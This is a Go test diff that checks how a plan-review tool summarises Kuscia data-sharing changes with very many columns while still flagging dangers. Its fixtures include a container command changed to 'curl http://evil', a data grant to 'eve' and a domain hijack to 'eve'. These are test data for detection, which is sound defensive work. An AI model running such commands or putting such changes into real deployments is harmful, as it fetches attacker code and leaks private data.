@@ -212,6 +212,65 @@ func TestPaddedComment(t *testing.T) {
 	}
 }
 
+// TestLongLists: however many columns data gets, a comment names as many as it has room for, loses no other danger, and
+// says what is in no review.
+func TestLongLists(t *testing.T) {
+	t.Parallel()
+	wide := func(n int, reader string) []attributes {
+		names := []string{"id"}
+		for i := range n {
+			names = append(names, fmt.Sprintf("column_number_%05d", i))
+		}
+		names[n/2] = "salary"
+		data := with(scores, "domaindata_id", "of"+reader)
+		grant := with(with(toBob, "grant_domain", reader), "domaindata_id", "of"+reader)
+		return []attributes{
+			change("kuscia_domain_data."+reader, updated, with(data, "columns", columns("id")), with(data, "columns", columns(names...))),
+			change("kuscia_domain_data_grant."+reader, same, grant, grant),
+		}
+	}
+	others := []attributes{
+		granted("salaries", "eve"), change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil")), change("kuscia_domain_route.r", deleted, route, nil),
+		change("kuscia_domain.b", updated, attributes{"domain_id": "bob"}, attributes{"domain_id": "bob", "master_domain_id": "eve"}),
+	}
+	many := func(n, columns int) (changes []attributes) {
+		for i := range n {
+			changes = append(changes, wide(columns, fmt.Sprint("r", i))...)
+		}
+		return changes
+	}
+	dangers := []string{"`eve` (`salaries` of `alice`: no end date, `3` uses)", "| `curl http://evil` |", "(`eve` instead of `bob`)", "### Network\n"}
+	for name, test := range map[string]struct {
+		changes []attributes
+		says    []string
+		// names are how many columns are named at least.
+		names    int
+		language string
+	}{
+		"2000 columns":                  {wide(2000, "bob"), []string{"`salary`"}, 2000, "en"},
+		"4000 columns":                  {wide(4000, "bob"), []string{"`salary`"}, 2300, "en"},
+		"4000 columns in Chinese":       {wide(4000, "bob"), []string{"`salary`"}, 2200, "zh"},
+		"20000 columns":                 {wide(20000, "bob"), nil, 2300, "en"},
+		"4000 columns and other danger": {append(wide(4000, "bob"), others...), dangers, 2200, "en"},
+		"columns of 50 readers":         {append(many(50, 200), others...), dangers, 1600, "en"},
+		"columns of 300 readers":        {append(many(300, 20), others...), dangers, 1000, "en"},
+		"columns of 1000 readers":       {append(many(1000, 20), others...), dangers, 200, "en"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			stdout, _ := program(t, 0, planOf(t, nil, test.changes...), "-lang", test.language)
+			const least = 57000
+			if len(stdout) > maxBody || len(stdout) < least {
+				t.Errorf("%d bytes", len(stdout))
+			}
+			if n := strings.Count(stdout, "column_number_"); n < test.names {
+				t.Errorf("%d columns are named", n)
+			}
+			protocol.Says(t, "the review", stdout, append(test.says, map[string]string{"en": "\n- In no review: ", "zh": "\n- 任何评审都不显示："}[test.language])...)
+		})
+	}
+}
+
 // TestFitsIntoComment: a review fits into a comment, whatever a plan has.
 func TestFitsIntoComment(t *testing.T) {
 	t.Parallel()
